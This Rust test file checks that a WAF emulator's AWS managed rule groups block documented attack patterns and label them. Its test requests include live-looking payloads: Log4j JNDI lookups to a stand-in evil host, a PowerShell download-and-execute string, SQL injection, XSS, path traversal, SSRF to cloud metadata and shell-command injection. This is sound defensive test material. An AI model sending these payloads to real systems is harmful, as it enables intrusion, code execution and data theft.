//! The AWS managed rule groups: AWS's rule names, labels and actions on the requests their
//! documentation describes.

mod support;

use serde_json::json;
use support::*;
use waf::managed;

fn with_groups(groups: &[&str]) -> waf::WebAcl {
    with_groups_in(groups, &context())
}

fn with_groups_in(groups: &[&str], ctx: &waf::AclContext) -> waf::WebAcl {
    let rules: Vec<_> = groups
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({
                "Name": format!("AWS-{name}"), "Priority": i,
                "Statement": { "ManagedRuleGroupStatement": { "VendorName": "AWS", "Name": name } },
                "OverrideAction": { "None": {} },
                "VisibilityConfig": { "SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": name },
            })
        })
        .collect();
    acl_with(json!(rules), ctx)
}

/// The managed rule that blocked the request, and the labels it got.
fn blocked_by(acl: &waf::WebAcl, request: Http) -> Option<(String, Vec<String>)> {
    let verdict = request.evaluate(acl);
    blocked(&verdict).then(|| (verdict.terminating_rule.unwrap().name, verdict.labels))
}

#[test]
fn the_catalog_has_every_required_group_with_aws_names() {
    let names: Vec<&str> = managed::catalog().iter().map(|g| g.name).collect();
    for required in [
        "AWSManagedRulesCommonRuleSet",
        "AWSManagedRulesSQLiRuleSet",
        "AWSManagedRulesKnownBadInputsRuleSet",
        "AWSManagedRulesAmazonIpReputationList",
        "AWSManagedRulesAnonymousIpList",
        "AWSManagedRulesBotControlRuleSet",
        "AWSManagedRulesAdminProtectionRuleSet",
        "AWSManagedRulesLinuxRuleSet",
        "AWSManagedRulesUnixRuleSet",
        "AWSManagedRulesPHPRuleSet",
        "AWSManagedRulesWindowsRuleSet",
        "AWSManagedRulesWordPressRuleSet",
    ] {
        assert!(names.contains(&required), "{required}");
    }
    let crs = managed::find("AWS", "AWSManagedRulesCommonRuleSet").unwrap();
    assert_eq!(crs.capacity, 700);
    assert!(crs
        .rules
        .iter()
        .any(|r| r.name == "NoUserAgent_HEADER" && r.action == waf::ActionKind::Block));
    assert!(crs
        .labels
        .contains(&"awswaf:managed:aws:core-rule-set:NoUserAgent_Header".to_string()));
    let ip = managed::find("AWS", "AWSManagedRulesAmazonIpReputationList").unwrap();
    assert!(ip
        .rules
        .iter()
        .any(|r| r.name == "AWSManagedIPDDoSList" && r.action == waf::ActionKind::Count));
    for group in managed::catalog() {
        with_groups(&[group.name]);
    }
}

#[test]
fn common_rule_set_blocks_a_request_without_user_agent() {
    let acl = with_groups(&["AWSManagedRulesCommonRuleSet"]);
    let (rule, labels) = blocked_by(&acl, get("/").without_header("user-agent")).unwrap();
    assert_eq!(rule, "NoUserAgent_HEADER");
    assert_eq!(
        labels,
        vec!["awswaf:managed:aws:core-rule-set:NoUserAgent_Header".to_string()]
    );
    assert!(blocked_by(&acl, get("/products?page=2")).is_none());
}

#[test]
fn common_rule_set_rules_block_their_documented_patterns() {
    let acl = with_groups(&["AWSManagedRulesCommonRuleSet"]);
    let rule = |request: Http| blocked_by(&acl, request).map(|(rule, _)| rule);
    assert_eq!(
        rule(
            get("/")
                .without_header("user-agent")
                .header("User-Agent", "sqlmap/1.7")
        )
        .as_deref(),
        Some("UserAgent_BadBots_HEADER")
    );
    assert_eq!(
        rule(get(&format!("/?q={}", "a".repeat(2100)))).as_deref(),
        Some("SizeRestrictions_QUERYSTRING")
    );
    assert_eq!(
        rule(post("/upload", &"a".repeat(9000))).as_deref(),
        Some("SizeRestrictions_BODY")
    );
    assert_eq!(
        rule(get(&format!("/{}", "a".repeat(1100)))).as_deref(),
        Some("SizeRestrictions_URIPATH")
    );
    assert_eq!(
        rule(get("/fetch?url=http://169.254.169.254/latest/meta-data/")).as_deref(),
        Some("EC2MetaDataSSRF_QUERYARGUMENTS")
    );
    assert_eq!(
        rule(get("/?file=../../etc/passwd")).as_deref(),
        Some("GenericLFI_QUERYARGUMENTS")
    );
    assert_eq!(
        rule(get("/?file=..%252f..%252fetc%252fpasswd")).as_deref(),
        Some("GenericLFI_QUERYARGUMENTS")
    );
    assert_eq!(
        rule(get("/backup/site.bak")).as_deref(),
        Some("RestrictedExtensions_URIPATH")
    );
    assert_eq!(
        rule(get("/?page=http://203.0.113.5/shell.txt")).as_deref(),
        Some("GenericRFI_QUERYARGUMENTS")
    );
    assert_eq!(
        rule(get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")).as_deref(),
        Some("CrossSiteScripting_QUERYARGUMENTS")
    );
    assert_eq!(
        rule(post("/comment", "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).as_deref(),
        Some("CrossSiteScripting_BODY")
    );
    assert_eq!(
        rule(get("/").header("Cookie", "pref=<img src=x onerror=alert(1)>")).as_deref(),
        Some("CrossSiteScripting_COOKIE")
    );
    assert_eq!(rule(get("/search?q=shoes&size=42&color=dark+blue")), None);
}

#[test]
fn sqli_rule_set_blocks_injection_in_query_body_and_cookie() {
    let acl = with_groups(&["AWSManagedRulesSQLiRuleSet"]);
    let (rule, labels) = blocked_by(&acl, get("/item?id=1'%20OR%20'1'='1")).unwrap();
    assert_eq!(rule, "SQLi_QUERYARGUMENTS");
    assert_eq!(
        labels,
        vec!["awswaf:managed:aws:sql-database:SQLi_QueryArguments".to_string()]
    );
    assert_eq!(
        blocked_by(&acl, post("/login", "user=admin'--&pass=x"))
            .unwrap()
            .0,
        "SQLi_BODY"
    );
    assert_eq!(
        blocked_by(
            &acl,
            get("/").header("Cookie", "id=1 UNION SELECT password FROM users")
        )
        .unwrap()
        .0,
        "SQLi_COOKIE"
    );
    assert_eq!(
        blocked_by(&acl, get("/?table=x%20information_schema.tables"))
            .unwrap()
            .0,
        "SQLiExtendedPatterns_QUERYARGUMENTS"
    );
    assert!(blocked_by(&acl, get("/search?q=O%27Reilly%20books&sort=price")).is_none());
}

#[test]
fn known_bad_inputs_block_log4j_java_rce_localhost_propfind_and_exploitable_paths() {
    let acl = with_groups(&["AWSManagedRulesKnownBadInputsRuleSet"]);
    let rule = |request: Http| blocked_by(&acl, request).map(|(rule, _)| rule);
    assert_eq!(
        rule(get("/").header("X-Api-Version", "${jndi:ldap://evil.example/a}")).as_deref(),
        Some("Log4JRCE_HEADER")
    );
    assert_eq!(
        rule(get(
            "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil%2Fa%7D"
        ))
        .as_deref(),
        Some("Log4JRCE_QUERYSTRING")
    );
    assert_eq!(
        rule(post("/", "{\"a\":\"${jndi:rmi://x/y}\"}")).as_deref(),
        Some("Log4JRCE_BODY")
    );
    assert_eq!(
        rule(post(
            "/",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"
        ))
        .as_deref(),
        Some("JavaDeserializationRCE_BODY")
    );
    assert_eq!(
        rule(get("/").without_header("host").header("Host", "localhost")).as_deref(),
        Some("Host_localhost_HEADER")
    );
    let mut propfind = get("/");
    propfind.method = "PROPFIND".into();
    assert_eq!(rule(propfind).as_deref(), Some("PROPFIND_METHOD"));
    assert_eq!(
        rule(get("/app/WEB-INF/web.xml")).as_deref(),
        Some("ExploitablePaths_URIPATH")
    );
    assert_eq!(rule(get("/docs?page=2")), None);
}

#[test]
fn os_and_application_rule_sets_block_their_documented_patterns() {
    let acl = with_groups(&[
        "AWSManagedRulesLinuxRuleSet",
        "AWSManagedRulesUnixRuleSet",
        "AWSManagedRulesWindowsRuleSet",
        "AWSManagedRulesPHPRuleSet",
        "AWSManagedRulesWordPressRuleSet",
        "AWSManagedRulesAdminProtectionRuleSet",
    ]);
    let rule = |request: Http| blocked_by(&acl, request).map(|(rule, _)| rule);
    assert_eq!(
        rule(get("/?f=/proc/version")).as_deref(),
        Some("LFI_QUERYSTRING")
    );
    assert_eq!(
        rule(get("/?host=x;cat%20/etc/hosts")).as_deref(),
        Some("LFI_QUERYSTRING")
    );
    assert_eq!(
        rule(get("/?cmd=echo%20$HOME")).as_deref(),
        Some("UNIXShellCommandsVariables_QUERYARGUMENTS")
    );
    assert_eq!(
        rule(get("/?host=127.0.0.1%26%26ipconfig%20/all")).as_deref(),
        Some("WindowsShellCommands_QUERYARGUMENTS")
    );
    assert_eq!(
        rule(post(
            "/",
            "x=Invoke-Expression%20(New-Object%20Net.WebClient).DownloadString('http://e/p')"
        ))
        .as_deref(),
        Some("PowerShellCommands_BODY")
    );
    assert_eq!(
        rule(get("/?x=%24_GET%5Bcmd%5D")).as_deref(),
        Some("PHPHighRiskMethodsVariables_QUERYSTRING")
    );
    assert_eq!(
        rule(post("/", "a=fsockopen(%22evil%22,80)")).as_deref(),
        Some("PHPHighRiskMethodsVariables_BODY")
    );
    assert_eq!(
        rule(get("/xmlrpc.php")).as_deref(),
        Some("WordPressExploitablePaths_URIPATH")
    );
    assert_eq!(
        rule(get("/?do-reset-wordpress=1")).as_deref(),
        Some("WordPressExploitableCommands_QUERYSTRING")
    );
    assert_eq!(
        rule(get("/sqlmanager/")).as_deref(),
        Some("AdminProtection_URIPATH")
    );
    assert_eq!(rule(get("/blog/hello-world?ref=home")), None);
}

#[test]
fn ip_reputation_and_anonymous_ip_lists_come_from_the_context() {
    let mut ctx = context();
    ctx.managed_ip_lists.insert(
        "AWSManagedIPReputationList".into(),
        vec!["203.0.113.0/24".into()],
    );
    ctx.managed_ip_lists.insert(
        "AWSManagedIPDDoSList".into(),
        vec!["198.51.100.0/24".into()],
    );
    ctx.managed_ip_lists
        .insert("AnonymousIPList".into(), vec!["192.0.2.0/24".into()]);
    let acl = with_groups_in(
        &[
            "AWSManagedRulesAmazonIpReputationList",
            "AWSManagedRulesAnonymousIpList",
        ],
        &ctx,
    );
    assert_eq!(
        blocked_by(&acl, get("/").from("203.0.113.4")).unwrap().0,
        "AWSManagedIPReputationList"
    );
    assert_eq!(
        blocked_by(&acl, get("/").from("192.0.2.4")).unwrap().0,
        "AnonymousIPList"
    );
    let verdict = get("/").from("198.51.100.4").evaluate(&acl);
    assert!(!blocked(&verdict), "the DDoS list only counts");
    assert!(verdict
        .labels
        .contains(&"awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList".to_string()));
}

#[test]
fn bot_control_blocks_unverified_bots_and_labels_verified_ones() {
    let mut ctx = context();
    ctx.managed_ip_lists
        .insert("VerifiedBots".into(), vec!["66.249.64.0/19".into()]);
    let acl = with_groups_in(&["AWSManagedRulesBotControlRuleSet"], &ctx);
    let googlebot = || {
        get("/").without_header("user-agent").header(
            "User-Agent",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        )
    };
    let verdict = googlebot().from("66.249.66.1").evaluate(&acl);
    assert!(!blocked(&verdict));
    assert!(verdict
        .labels
        .contains(&"awswaf:managed:aws:bot-control:bot:verified".to_string()));
    assert!(verdict
        .labels
        .contains(&"awswaf:managed:aws:bot-control:bot:name:googlebot".to_string()));
    let (rule, labels) = blocked_by(&acl, googlebot().from("203.0.113.9")).unwrap();
    assert_eq!(rule, "CategorySearchEngine");
    assert!(
        labels.contains(&"awswaf:managed:aws:bot-control:bot:category:search_engine".to_string())
    );
    assert_eq!(
        blocked_by(
            &acl,
            get("/")
                .without_header("user-agent")
                .header("User-Agent", "curl/8.5.0")
        )
        .unwrap()
        .0,
        "CategoryHttpLibrary"
    );
    assert_eq!(
        blocked_by(
            &acl,
            get("/")
                .without_header("user-agent")
                .header("User-Agent", "Mozilla/5.0 HeadlessChrome/120.0")
        )
        .unwrap()
        .0,
        "SignalAutomatedBrowser"
    );
    assert_eq!(
        blocked_by(
            &acl,
            get("/")
                .without_header("user-agent")
                .header("User-Agent", "my-tool 1.0")
        )
        .unwrap()
        .0,
        "SignalNonBrowserUserAgent"
    );
    assert!(blocked_by(&acl, get("/")).is_none());
}

#[test]
fn managed_groups_take_rule_action_overrides_scope_down_and_versions() {
    let rules = |statement: serde_json::Value| {
        json!([{
            "Name": "crs", "Priority": 0, "Statement": { "ManagedRuleGroupStatement": statement },
            "OverrideAction": { "None": {} },
            "VisibilityConfig": { "SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "crs" },
        }])
    };
    let overridden = acl(rules(
        json!({ "VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet", "Version": "Version_1.0", "RuleActionOverrides": [{ "Name": "NoUserAgent_HEADER", "ActionToUse": { "Count": {} } }] }),
    ));
    let verdict = get("/").without_header("user-agent").evaluate(&overridden);
    assert!(!blocked(&verdict));
    assert_eq!(
        verdict.non_terminating_matches[0].name,
        "NoUserAgent_HEADER"
    );
    assert_eq!(
        verdict.labels,
        vec!["awswaf:managed:aws:core-rule-set:NoUserAgent_Header".to_string()]
    );
    let scoped = acl(rules(
        json!({ "VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet", "ScopeDownStatement": byte_match(json!({ "UriPath": {} }), "/api", "STARTS_WITH", &["NONE"]) }),
    ));
    assert!(!blocked(
        &get("/").without_header("user-agent").evaluate(&scoped)
    ));
    assert!(blocked(
        &get("/api/x").without_header("user-agent").evaluate(&scoped)
    ));
    let error = waf::WebAcl::from_json(&json!({ "Allow": {} }), &rules(json!({ "VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet", "Version": "Version_9.9" })), &context()).unwrap_err();
    assert_eq!(error.exception, "WAFNonexistentItemException");
}
